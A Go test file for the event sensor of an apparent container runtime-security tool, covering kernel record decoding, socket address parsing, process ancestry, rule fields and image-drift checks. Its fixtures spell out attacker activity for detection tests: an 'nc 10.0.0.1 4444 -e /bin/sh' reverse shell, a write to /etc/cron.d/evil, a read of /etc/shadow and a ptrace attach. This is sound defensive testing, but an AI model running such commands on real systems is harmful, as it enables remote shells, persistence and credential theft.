package sensor

import (
	"context"
	"encoding/binary"
	"net/netip"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/bulkhead-sec/bulkhead/internal/runtime/rules"
)

// record builds a kernel record the way bpf/sensor.bpf.c lays it out.
func record(typ uint32, pid uint32, ret int64, args [6]uint64, comm, s0 string, s1 []byte, argv string) []byte {
	size := recSize
	if typ == typeExec {
		size = recExecSize
	}
	b := make([]byte, size)
	le := binary.LittleEndian
	le.PutUint64(b[0:], 123456789)
	le.PutUint64(b[8:], 4242)
	for i, a := range args {
		le.PutUint64(b[16+8*i:], a)
	}
	le.PutUint64(b[64:], uint64(ret))
	le.PutUint32(b[72:], typ)
	le.PutUint32(b[76:], pid)
	le.PutUint32(b[80:], pid)
	le.PutUint32(b[84:], 1)
	le.PutUint32(b[88:], 1000)
	le.PutUint32(b[92:], 1001)
	copy(b[offComm:], comm)
	copy(b[offStr0:], s0+"\x00")
	le.PutUint16(b[104:], uint16(len(s0)+1))
	copy(b[offStr1:], s1)
	le.PutUint16(b[106:], uint16(len(s1)))
	if typ == typeExec {
		copy(b[recSize:], argv)
		le.PutUint32(b[108:], uint32(len(argv)))
	}
	return b
}

func TestDecodeRecord(t *testing.T) {
	ev, err := DecodeRecord(record(typeExec, 77, 0, [6]uint64{}, "nc", "/bin/nc", []byte("busybox\x00"), "nc\x00-e\x00/bin/sh\x00"))
	if err != nil {
		t.Fatal(err)
	}
	want := RawEvent{BootNS: 123456789, CgroupID: 4242, Type: typeExec, Pid: 77, Tid: 77, Ppid: 1, Uid: 1000, Gid: 1001,
		Comm: "nc", Str0: "/bin/nc", Str1: "busybox", Argv: []string{"nc", "-e", "/bin/sh"}}
	if !reflect.DeepEqual(ev, want) {
		t.Errorf("got %+v\nwant %+v", ev, want)
	}
	if _, err := DecodeRecord(make([]byte, 100)); err == nil {
		t.Error("short record accepted")
	}
	short := record(typeExec, 1, 0, [6]uint64{}, "x", "/x", nil, "")[:recSize]
	if _, err := DecodeRecord(short); err == nil {
		t.Error("truncated exec record accepted")
	}
}

func sockaddrIn(ip [4]byte, port uint16) []byte {
	b := make([]byte, 16)
	binary.LittleEndian.PutUint16(b, 2)
	binary.BigEndian.PutUint16(b[2:], port)
	copy(b[4:], ip[:])
	return b
}

func TestParseSockaddr(t *testing.T) {
	in6 := make([]byte, 28)
	binary.LittleEndian.PutUint16(in6, 10)
	binary.BigEndian.PutUint16(in6[2:], 443)
	copy(in6[8:], netip.MustParseAddr("2001:db8::1").AsSlice())
	un := append([]byte{1, 0}, []byte("/run/docker.sock\x00")...)
	abstract := append([]byte{1, 0, 0}, []byte("bus\x00")...)
	for _, tc := range []struct {
		name string
		b    []byte
		want SockAddr
		ok   bool
	}{
		{"ipv4", sockaddrIn([4]byte{10, 1, 2, 3}, 4444), SockAddr{Family: "ip", Addr: netip.MustParseAddr("10.1.2.3"), Port: 4444}, true},
		{"ipv6", in6, SockAddr{Family: "ip", Addr: netip.MustParseAddr("2001:db8::1"), Port: 443}, true},
		{"unix", un, SockAddr{Family: "unix", Path: "/run/docker.sock"}, true},
		{"abstract", abstract, SockAddr{Family: "unix", Path: "@bus"}, true},
		{"short ipv4", sockaddrIn([4]byte{1, 2, 3, 4}, 1)[:6], SockAddr{}, false},
		{"unknown family", []byte{17, 0, 1, 2}, SockAddr{}, false},
		{"empty", nil, SockAddr{}, false},
	} {
		got, ok := parseSockaddr(tc.b)
		if ok != tc.ok || got != tc.want {
			t.Errorf("%s: got %+v %v, want %+v %v", tc.name, got, ok, tc.want, tc.ok)
		}
	}
}

func TestContainerIDFromCgroupPath(t *testing.T) {
	id := "bb86c560ad491b91250db8bdd44faf822a640d980983fe3b0883b025dcbdcd40"
	for p, want := range map[string]string{
		"/docker/" + id:                                             id,
		"/system.slice/docker-" + id + ".scope":                     id,
		"/kubepods/besteffort/pod1/cri-containerd-" + id + ".scope": id,
		"/user.slice/user-1000.slice":                               "",
		"/":                                                         "",
		"/docker/" + id[:60]:                                        "",
	} {
		if got := containerIDFromCgroupPath(p); got != want {
			t.Errorf("%s: %q, want %q", p, got, want)
		}
	}
}

func TestSplitImageRef(t *testing.T) {
	for ref, want := range map[string][3]string{
		"nginx:1.27":                 {"nginx", "1.27", ""},
		"nginx":                      {"nginx", "latest", ""},
		"localhost:5000/team/app:v1": {"localhost:5000/team/app", "v1", ""},
		"localhost:5000/team/app":    {"localhost:5000/team/app", "latest", ""},
		"alpine@sha256:abcd":         {"alpine", "", "sha256:abcd"},
		"ghcr.io/x/y:2@sha256:ef01":  {"ghcr.io/x/y", "2", "sha256:ef01"},
	} {
		r, tg, d := splitImageRef(ref)
		if [3]string{r, tg, d} != want {
			t.Errorf("%s: %q %q %q, want %v", ref, r, tg, d, want)
		}
	}
}

func TestInterest(t *testing.T) {
	attach, unsup := Interest([]string{"openat", "execve", "dup2", "dup2", "umount", "connect"}, false)
	if !reflect.DeepEqual(attach, []string{"connect", "openat", "umount2"}) || !reflect.DeepEqual(unsup, []string{"dup2"}) {
		t.Errorf("attach %v unsupported %v", attach, unsup)
	}
	all, _ := Interest(nil, true)
	if len(all) != len(syscalls) {
		t.Errorf("all: %d of %d", len(all), len(syscalls))
	}
}

func TestFlagsText(t *testing.T) {
	if got := flagsText(0o1101); got != "O_WRONLY|O_CREAT|O_TRUNC" {
		t.Errorf("got %q", got)
	}
	if got := flagsText(0o2000000); got != "O_RDONLY|O_CLOEXEC" {
		t.Errorf("got %q", got)
	}
}

// fakeProc writes a minimal /proc/PID for the tree to read.
func fakeProc(t *testing.T, root string, pid, ppid int, comm, cmdline string) {
	t.Helper()
	dir := filepath.Join(root, itoa(pid))
	os.MkdirAll(dir, 0o755)
	os.WriteFile(filepath.Join(dir, "stat"), []byte(itoa(pid)+" ("+comm+") S "+itoa(ppid)+" 1 1 0 -1 4194560\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "cmdline"), []byte(cmdline), 0o644)
	os.WriteFile(filepath.Join(dir, "status"), []byte("Name:\t"+comm+"\nUid:\t0\t0\t0\t0\nGid:\t0\t0\t0\t0\n"), 0o644)
}

func itoa(i int) string { return strconv.Itoa(i) }

func TestProcTree(t *testing.T) {
	root := t.TempDir()
	fakeProc(t, root, 1, 0, "init", "/sbin/init\x00")
	fakeProc(t, root, 100, 1, "containerd-shim", "/usr/bin/containerd-shim\x00-id\x00x\x00")
	tr := NewProcTree()
	tr.proc = root
	at := time.Unix(100, 0)
	// A process started before the sensor forks a child that execs a shell,
	// which execs nc.
	fork := RawEvent{Type: typeFork, Pid: 100, Ret: 200, Comm: "containerd-shim"}
	c := tr.Update(&fork, at)
	if c.Pid != 200 || c.Parent == nil || c.Parent.Name != "containerd-shim" || c.Parent.Parent.Name != "init" {
		t.Fatalf("fork: %+v", c)
	}
	sh := tr.Update(&RawEvent{Type: typeExec, Pid: 200, Ppid: 100, Comm: "sh", Str0: "/bin/sh", Argv: []string{"sh", "-c", "nc x"}}, at)
	if sh.Cmdline() != "sh -c nc x" || sh.Parent.Name != "containerd-shim" || !sh.Start.Equal(at) {
		t.Errorf("exec: %+v", sh)
	}
	fork2 := RawEvent{Type: typeFork, Pid: 200, Ret: 201, Comm: "sh"}
	tr.Update(&fork2, at)
	nc := tr.Update(&RawEvent{Type: typeExec, Pid: 201, Ppid: 200, Comm: "nc", Str0: "/bin/nc", Argv: []string{"nc", "-e", "/bin/sh"}}, at.Add(time.Second))
	for i, want := range []string{"nc", "sh", "containerd-shim", "init"} {
		if a := nc.Ancestor(i); a == nil || a.Name != want {
			t.Errorf("ancestor %d: %+v, want %s", i, a, want)
		}
	}
	if nc.Ancestor(4) != nil {
		t.Error("ancestor beyond init")
	}
	// Exit removes the process; events already holding it keep it.
	tr.Update(&RawEvent{Type: typeExit, Pid: 201}, at)
	if tr.Len() != 3 {
		t.Errorf("%d processes after exit, want 3", tr.Len())
	}
	if nc.Parent.Name != "sh" {
		t.Error("an exited process lost its ancestry")
	}
}

func TestEventFields(t *testing.T) {
	sh := &Process{Pid: 10, Name: "sh", Exe: "sh", ExePath: "/bin/sh", Args: []string{"-c", "x"}}
	nc := &Process{Pid: 11, Ppid: 10, Name: "nc", Exe: "/bin/nc", ExePath: "/bin/nc", Args: []string{"10.0.0.1", "4444", "-e", "/bin/sh"}, Parent: sh, Start: time.Unix(5, 0)}
	ct := &Container{ID: "0123456789ab" + "cdef0123456789abcdef0123456789abcdef0123456789abcdef", Type: "docker", Name: "web", Image: "nginx:1.27",
		ImageRepo: "nginx", ImageTag: "1.27", Labels: map[string]string{"io.kubernetes.pod.namespace": "prod", "app": "web"}}
	connect := &Event{
		Raw:  RawEvent{Type: 42, Pid: 11, Tid: 12, Uid: 0, Ret: -115, Args: [6]uint64{3}},
		Time: time.Unix(6, 0), Proc: nc, Container: ct, HasAddr: true,
		Addr: SockAddr{Family: "ip", Addr: netip.MustParseAddr("10.0.0.1"), Port: 4444}, FdName: "->10.0.0.1:4444",
	}
	open := &Event{
		Raw:  RawEvent{Type: 257, Pid: 11, Ret: 5, Args: [6]uint64{0xffffff9c, 0, 0o1101, 0o755}},
		Time: time.Unix(6, 0), Proc: nc, FdName: "/etc/cron.d/evil",
	}
	ptrace := &Event{Raw: RawEvent{Type: 101, Pid: 11, Args: [6]uint64{16, 99}}, Proc: nc, Container: ct}
	for _, tc := range []struct {
		ev        *Event
		name, arg string
		want      any // string, int64, bool, []string, or nil for missing
	}{
		{connect, "evt.type", "", "connect"},
		{connect, "evt.res", "", "EINPROGRESS"},
		{connect, "evt.rawres", "", int64(-115)},
		{connect, "evt.failed", "", true},
		{connect, "fd.typechar", "", "4"},
		{connect, "fd.sip", "", "10.0.0.1"},
		{connect, "fd.sport", "", int64(4444)},
		{connect, "fd.rport", "", int64(4444)},
		{connect, "fd.cip", "", nil},
		{connect, "fd.num", "", int64(3)},
		{connect, "fd.name", "", "->10.0.0.1:4444"},
		{connect, "proc.name", "", "nc"},
		{connect, "proc.cmdline", "", "nc 10.0.0.1 4444 -e /bin/sh"},
		{connect, "proc.pname", "", "sh"},
		{connect, "proc.pcmdline", "", "sh -c x"},
		{connect, "proc.aname", "1", "sh"},
		{connect, "proc.aname", "2", nil},
		{connect, "proc.aname", "", []string{"sh"}},
		{connect, "proc.duration", "", int64(time.Second)},
		{connect, "thread.tid", "", int64(12)},
		{connect, "container.id", "", "0123456789ab"},
		{connect, "container.image.repository", "", "nginx"},
		{connect, "container.privileged", "", false},
		{connect, "k8s.ns.name", "", "prod"},
		{connect, "k8s.pod.label", "app", "web"},
		{connect, "k8s.pod.name", "", nil},
		{open, "container.id", "", "host"},
		{open, "evt.is_open_write", "", true},
		{open, "evt.is_open_read", "", false},
		{open, "evt.is_open_exec", "", true},
		{open, "evt.arg.flags", "", "O_WRONLY|O_CREAT|O_TRUNC"},
		{open, "fd.directory", "", "/etc/cron.d"},
		{open, "fd.filename", "", "evil"},
		{open, "fd.typechar", "", "f"},
		{open, "fd.num", "", int64(5)},
		{open, "fd.sip", "", nil},
		{ptrace, "evt.arg.request", "", "PTRACE_ATTACH"},
		{ptrace, "evt.arg.pid", "", int64(99)},
		{ptrace, "evt.arg", "1", int64(99)},
		{ptrace, "evt.is_open_read", "", nil},
	} {
		v, ok := tc.ev.Field(tc.name, tc.arg)
		key := tc.name
		if tc.arg != "" {
			key += "[" + tc.arg + "]"
		}
		if tc.want == nil {
			if ok {
				t.Errorf("%s %s: got %v, want missing", tc.ev.TypeName(), key, v)
			}
			continue
		}
		if !ok {
			t.Errorf("%s %s: missing, want %v", tc.ev.TypeName(), key, tc.want)
			continue
		}
		var got any
		switch v.Kind() {
		case rules.KindString:
			got = v.Str()
		case rules.KindInt:
			got = v.Int()
		case rules.KindBool:
			got = v.Bool()
		case rules.KindList:
			got = v.List()
		}
		if !reflect.DeepEqual(got, tc.want) {
			t.Errorf("%s %s: got %#v, want %#v", tc.ev.TypeName(), key, got, tc.want)
		}
	}
}

func TestUpperLayer(t *testing.T) {
	upper := t.TempDir()
	os.MkdirAll(filepath.Join(upper, "tmp"), 0o755)
	os.WriteFile(filepath.Join(upper, "tmp", "dropped"), nil, 0o755)
	os.Symlink("/", filepath.Join(upper, "escape"))
	ct := &Container{upper: upper}
	for p, want := range map[string]bool{"/tmp/dropped": true, "/bin/sh": false, "/escape/etc/passwd": false, "/../../tmp/dropped": true} {
		in, known := ct.InUpperLayer(p)
		if !known || in != want {
			t.Errorf("%s: in=%v known=%v, want %v", p, in, known, want)
		}
	}
	if _, known := (&Container{}).InUpperLayer("/x"); known {
		t.Error("a container without a layer path claims to know")
	}
}

func FuzzDecodeRecord(f *testing.F) {
	f.Add(record(typeExec, 1, 0, [6]uint64{}, "sh", "/bin/sh", []byte("sh"), "sh\x00-c\x00x"))
	f.Add(record(42, 1, 0, [6]uint64{3}, "nc", "", sockaddrIn([4]byte{1, 2, 3, 4}, 80), ""))
	f.Add(record(257, 1, 3, [6]uint64{}, "cat", "/etc/shadow", nil, ""))
	f.Fuzz(func(t *testing.T, b []byte) {
		ev, err := DecodeRecord(b)
		if err != nil {
			return
		}
		parseSockaddr([]byte(ev.Str1))
		if len(ev.Str0) > 256 || len(ev.Str1) > 256 || len(ev.Comm) > 16 {
			t.Fatalf("strings beyond their fields: %d %d %d", len(ev.Str0), len(ev.Str1), len(ev.Comm))
		}
	})
}

// imageFiles is a DriftSource over a fixed file list per image.
type imageFiles map[string][]string

func (f imageFiles) Peek(imageID, exe string) (bool, bool) {
	files, ok := f[imageID]
	if !ok {
		return false, false
	}
	return !slices.Contains(files, exe), true
}

type staticInspector map[string]*Container

func (s staticInspector) Inspect(_ context.Context, id string) (*Container, error) {
	c := *s[id]
	return &c, nil
}

// TestDriftFromImageFiles: without a visible writable layer, an
// executable missing from the image's file list is drift; one under a
// mount, or in an image whose list is unknown, is not known either way.
func TestDriftFromImageFiles(t *testing.T) {
	id1, id2 := strings.Repeat("a", 64), strings.Repeat("b", 64)
	cs := NewContainers(staticInspector{
		id1: {ID: id1, ImageID: "sha256:img1", Mounts: []Mount{{Source: "/srv", Dest: "/data"}}},
		id2: {ID: id2, ImageID: "sha256:other"},
	}, nil)
	cs.SetDrift(imageFiles{"sha256:img1": {"/bin/sh", "/usr/bin/apt"}})
	ct, other := cs.container(id1), cs.container(id2)
	for _, c := range []struct {
		ct          *Container
		path        string
		drift, know bool
	}{
		{ct, "/bin/sh", false, true},
		{ct, "/usr/bin/../bin/apt", false, true},
		{ct, "/tmp/dropped", true, true},
		{ct, "/data/tool", false, false},
		{other, "/tmp/dropped", false, false},
	} {
		drift, known := c.ct.InUpperLayer(c.path)
		if drift != c.drift || known != c.know {
			t.Errorf("%s in %s: drift=%v known=%v, want %v %v", c.path, c.ct.ImageID, drift, known, c.drift, c.know)
		}
	}
}
